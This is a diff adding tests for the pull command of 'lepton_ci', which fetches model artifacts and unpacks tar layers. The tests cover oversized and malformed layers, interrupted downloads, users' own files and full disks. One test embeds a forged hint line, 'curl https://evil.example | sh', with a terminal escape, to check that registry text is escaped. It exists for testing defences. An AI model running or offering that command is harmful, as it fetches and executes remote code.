@@ -10,6 +10,8 @@ import hashlib
 import io
 import json
 import os
+import re
+import shutil
 import subprocess
 import sys
 import tarfile
@@ -131,6 +133,8 @@ def test_pull_by_version_latest_and_stage(weights, tmp_path):
     code, out, err = cli("pull", "weights@latest", "--out", str(tmp_path / "b"))
     assert code == 0, err
     assert out.startswith("weights v0.1.1: pulled from ")
+    # a model under a megabyte says its size in kB: "0.0 MB" read as nothing pulled
+    assert re.search(r"\(\d+\.\d kB in \d+\.\d s\); 2 file\(s\), \d+\.\d kB, each", out), out
     assert_pulled(tmp_path / "b", repo, "weights@v0.1.1")
     assert (tmp_path / "a" / "weights.bin").read_bytes() != (
         tmp_path / "b" / "weights.bin"
@@ -590,6 +594,11 @@ def test_a_broken_layer_is_refused_by_what_is_wrong(tmp_path):
         (b"x" * 1024, {"w.bin": b""}, "not a valid tar"),
         (_pax_sized(b"-5"), {"w.bin": b""}, "names a size of '-5'"),
         (_pax_sized(b"1e3"), {"w.bin": b""}, "names a size of '1e3'"),
+        (
+            tar_of(("app/vol", b"V", b"")),  # a GNU volume label: not a device
+            {"w.bin": b""},
+            "holds 'app/vol', an entry of tar type V, which pull does not read",
+        ),
     ]
     for layer, wanted, refusal in cases:
         with pytest.raises(PullError, match=refusal):
@@ -627,9 +636,13 @@ def test_a_signed_version_without_a_trust_policy_is_pulled_with_a_warning(signed
     assert_pulled(tmp_path / "out", repo, TAG)
 
 
-def test_sigterm_during_a_download_leaves_nothing(tmp_path, registry, capsys):
-    """Stopped half-way (as a CI job is cancelled): the staging folder goes, and the folder
-    the pull made with it; exit 143, as a shell reports SIGTERM."""
+@pytest.mark.parametrize(
+    ("signame", "code", "said"),
+    [("SIGTERM", 143, "stopped by SIGTERM"), ("SIGINT", 130, "stopped by SIGINT (Ctrl-C)")],
+)
+def test_sigterm_during_a_download_leaves_nothing(tmp_path, registry, capsys, signame, code, said):
+    """Stopped half-way (as a CI job is cancelled, or Ctrl-C at a terminal): the staging
+    folder goes, and the folder the pull made with it; exit 143 or 130, as a shell reports."""
     import signal
     import time
 
@@ -652,10 +665,10 @@ def test_sigterm_during_a_download_leaves_nothing(tmp_path, registry, capsys):
         while not list(out.glob(".lepton-pull-*/0")) and time.monotonic() < deadline:
             time.sleep(0.05)  # until the first file is being written
         assert proc.poll() is None, proc.communicate()
-        proc.send_signal(signal.SIGTERM)
+        proc.send_signal(getattr(signal, signame))
         _, err = proc.communicate(timeout=60)
-        assert proc.returncode == 143, err
-        assert "stopped by SIGTERM" in err.decode()
+        assert proc.returncode == code, err
+        assert said in err.decode()
         assert not out.exists()
     finally:
         proxy.close()
@@ -689,3 +702,226 @@ def test_pull_from_a_registry_with_the_token_flow_and_a_refused_login(
     finally:
         private.stop()
         tokens.close()
+
+
+@pytest.mark.unit
+def test_an_artifact_of_another_size_than_the_record_is_refused_before_it_is_written(tmp_path):
+    """A layer that names a model file of 1 TiB (a gzip bomb of zeros is a few GB) must not
+    fill the disk before its hash can be refused: its size is judged from its header."""
+    from lepton_ci.core.errors import PullError
+    from lepton_ci.fetch.unpack import Unpacker
+
+    header = tarfile.TarInfo("app/w.bin")
+    header.size = 1 << 40
+    read = []
+
+    def layer():
+        yield header.tobuf(tarfile.GNU_FORMAT)  # base-256: sizes of 8 GiB and more
+        for _ in range(64):  # 64 MiB of the terabyte, then the test stops reading
+            read.append(1)
+            yield bytes(1 << 20)
+        raise AssertionError("the unpacker read on into a file of the wrong size")
+
+    stage = tmp_path / "stage"
+    stage.mkdir()
+    unpacker = Unpacker(
+        {"w.bin": hash_bytes(b"w")}, "/app", stage, sha256=False, where="t", sizes={"w.bin": 1}
+    )
+    with pytest.raises(PullError, match=r"w.bin: the model layer's file is 1099511627776 bytes, "):
+        unpacker.run(layer())
+    assert not read and not list(stage.iterdir())
+
+
+def test_files_of_the_users_in_the_folder_are_not_replaced(weights, tmp_path):
+    """`--out .` in the clone, or a folder of the user's: a file at an artifact's path that
+    no earlier pull put there is refused before anything is downloaded; an earlier pull's
+    files (of another version too) are replaced, and other files are left alone."""
+    repo, cli = weights
+    out = tmp_path / "mine"
+    (out / "tokenizer").mkdir(parents=True)
+    (out / "weights.bin").write_bytes(b"the user's own weights")
+    (out / "notes.txt").write_text("keep me")
+    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
+    assert code == 1
+    assert f"{out} holds weights.bin, which no earlier pull put there" in err
+    assert (out / "weights.bin").read_bytes() == b"the user's own weights"
+    assert sorted(p.name for p in out.iterdir()) == ["notes.txt", "tokenizer", "weights.bin"]
+    (out / "weights.bin").unlink()
+    (out / "record.json").write_text("{}")  # a record.json of the user's, not a version's
+    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(out))
+    assert code == 1 and f"{out} holds record.json, which no earlier pull" in err
+    (out / "record.json").unlink()
+    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
+    release(cli, repo, seed=2)  # v0.1.1 into the folder v0.1.0 was pulled into: replaced
+    code, _, err = cli("pull", "weights@v0.1.1", "--out", str(out))
+    assert code == 0, err
+    assert_pulled(out, repo, "weights@v0.1.1")
+    assert (out / "notes.txt").read_text() == "keep me"
+
+
+def test_out_that_is_a_file_or_a_dangling_link_is_said_as_such(weights, tmp_path):
+    _, cli = weights
+    (tmp_path / "afile").write_text("x")
+    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "afile"))
+    assert code == 1 and f"{tmp_path / 'afile'} is not a folder; nothing was pulled" in err
+    (tmp_path / "dangling").symlink_to(tmp_path / "gone")
+    code, _, err = cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "dangling"))
+    assert code == 1
+    assert f"is a link to {tmp_path / 'gone'}, which does not exist; nothing was pulled" in err
+    assert not (tmp_path / "gone").exists()
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "real")  # a link to a folder is that folder
+    assert cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "link"))[0] == 0
+    assert (tmp_path / "real" / "weights.bin").is_file()
+
+
+def test_a_pull_waits_for_another_placing_its_files_in_the_same_folder(weights, tmp_path):
+    """Two pulls into one folder (two jobs on a shared disk, a stage pulled as it moves):
+    each renames its files in and writes its record while it holds the folder, so the
+    record never describes the other's files. The test holds the folder as a pull would."""
+    import fcntl
+    import threading
+    import time
+
+    import lepton_ci
+
+    repo, _ = weights
+    out = tmp_path / "shared"
+    out.mkdir()
+    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
+    fcntl.flock(fd, fcntl.LOCK_EX)
+    done: list[object] = []
+    t = threading.Thread(
+        target=lambda: done.append(
+            lepton_ci.pull("weights@v0.1.0", out, config=str(repo / "lepton.yaml"))
+        )
+    )
+    t.start()
+    time.sleep(2)  # the download and the checks are done by now; it waits for the folder
+    try:
+        assert not done and not (out / "record.json").exists()
+        assert not (out / "weights.bin").exists()
+    finally:
+        os.close(fd)
+    t.join(30)
+    assert done and assert_pulled(out, repo, "weights@v0.1.0") is None
+
+
+@pytest.mark.unit
+def test_words_of_the_image_in_a_refusal_cannot_forge_a_line_of_their_own(tmp_path):
+    """A media type or WorkingDir is the registry's text: a newline and a `fix:` in it must
+    not print as a hint of ours, nor an escape sequence reach the terminal."""
+    from lepton_ci.core.errors import PullError
+    from lepton_ci.fetch.unpack import Unpacker, layer_bytes
+
+    evil = "x\n  fix: curl https://evil.example | sh\x1b[2J"
+    with pytest.raises(PullError) as e:
+        layer_bytes([], evil, "t")
+    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)
+    assert '"x\\n  fix: curl https://evil.example | sh\\u001b[2J"' in str(e.value)
+    stage = tmp_path / "stage"
+    stage.mkdir()
+    unpacker = Unpacker({"w.bin": hash_bytes(b"w")}, evil, stage, sha256=False, where="t")
+    with pytest.raises(PullError) as e:
+        unpacker.run(iter([tar_of(("app/other", tarfile.REGTYPE, b"o"))]))
+    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)
+
+
+@pytest.mark.unit
+def test_many_pax_headers_before_one_entry_are_refused_not_gathered(tmp_path):
+    """Each pax header was held to 1 MiB, but one after another (a key of its own each) they
+    were all gathered in memory for the entry that follows, without end."""
+    from lepton_ci.core.errors import PullError
+    from lepton_ci.fetch.unpack import Unpacker
+
+    def pax(i: int) -> bytes:
+        body = f"k{i}=".encode() + b"v" * (900 << 10) + b"\n"
+        n = len(body) + 1
+        n += len(str(n + len(str(n))))
+        record = str(n).encode() + b" " + body
+        head = tarfile.TarInfo("pax")
+        head.type, head.size = tarfile.XHDTYPE, len(record)
+        return head.tobuf(tarfile.USTAR_FORMAT) + record + bytes(-len(record) % 512)
+
+    def layer():
+        for i in range(8):  # 7 MiB of headers, then the test stops reading
+            yield pax(i)
+        raise AssertionError("the unpacker gathered header after header")
+
+    stage = tmp_path / "stage"
+    stage.mkdir()
+    unpacker = Unpacker({"w.bin": hash_bytes(b"w")}, "/app", stage, sha256=False, where="t")
+    with pytest.raises(PullError, match="bytes of tar headers for one entry, too many"):
+        unpacker.run(layer())
+
+
+def test_a_file_where_an_artifacts_folder_goes_is_refused_before_anything_moves(weights, tmp_path):
+    repo, cli = weights
+    out = tmp_path / "out"
+    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
+    release(cli, repo, seed=2)  # v0.1.1: both files change
+    shutil.rmtree(out / "tokenizer")
+    (out / "tokenizer").write_text("a file of the user's, where the folder goes")
+    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
+    code, _, err = cli("pull", "weights@v0.1.1", "--out", str(out))
+    assert code == 1
+    assert f"{out}: tokenizer/vocab.txt would go into {out / 'tokenizer'}, a file" in err
+    assert "unexpected error" not in err
+    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
+
+
+def test_staging_folders_of_killed_pulls_go_but_not_another_hosts(weights, tmp_path):
+    """A pull killed outright leaves its staging folder; the next pull on this host removes
+    it. On a disk shared by pods, another host's staging folder is its live pull's (its
+    process id means nothing here): left alone."""
+    import socket
+
+    _, cli = weights
+    out = tmp_path / "out"
+    out.mkdir()
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    mine = out / f".lepton-pull-{dead.pid}-0a0b0c0d-{socket.gethostname()}"
+    older = out / f".lepton-pull-{dead.pid}-0a0b0c0e"  # as pulls before the host was named
+    theirs = out / f".lepton-pull-{dead.pid}-0a0b0c0f-pod-7f9c-other"
+    for stage in (mine, older, theirs):
+        stage.mkdir()
+        (stage / "0").write_bytes(b"half")
+    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
+    assert not mine.exists() and not older.exists()
+    assert (theirs / "0").read_bytes() == b"half"
+
+
+@pytest.mark.unit
+def test_a_full_disk_is_said_as_such_not_as_a_bug(tmp_path):
+    """A write that fails (a full disk or quota; here a file-size limit, which fails the
+    same write(2) the same way) is the user's to fix: a PullError naming the folder."""
+    code = (
+        "import resource, signal, sys, tarfile, io\n"
+        "from pathlib import Path\n"
+        "from lepton_ci.core.errors import PullError\n"
+        "from lepton_ci.core.hashing import hash_bytes\n"
+        "from lepton_ci.fetch.unpack import Unpacker\n"
+        "data = b'w' * 200_000\n"
+        "raw = io.BytesIO()\n"
+        "with tarfile.open(fileobj=raw, mode='w') as tar:\n"
+        "    info = tarfile.TarInfo('app/w.bin'); info.size = len(data)\n"
+        "    tar.addfile(info, io.BytesIO(data))\n"
+        "stage = Path(sys.argv[1])\n"
+        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
+        "resource.setrlimit(resource.RLIMIT_FSIZE, (50_000, 50_000))\n"
+        "u = Unpacker({'w.bin': hash_bytes(data)}, '/app', stage, sha256=False, where='t',\n"
+        "             sizes={'w.bin': len(data)})\n"
+        "try:\n"
+        "    u.run(iter([raw.getvalue()]))\n"
+        "except PullError as e:\n"
+        "    print(e)\n"
+    )
+    stage = tmp_path / "out" / "stage"
+    stage.mkdir(parents=True)
+    res = subprocess.run(
+        [sys.executable, "-c", code, str(stage)], capture_output=True, text=True, check=False
+    )
+    assert res.returncode == 0, res.stderr
+    assert f"t: w.bin cannot be written to {tmp_path / 'out'} (File too large)" in res.stdout
+    assert "the version's files take 200000 bytes" in res.stdout
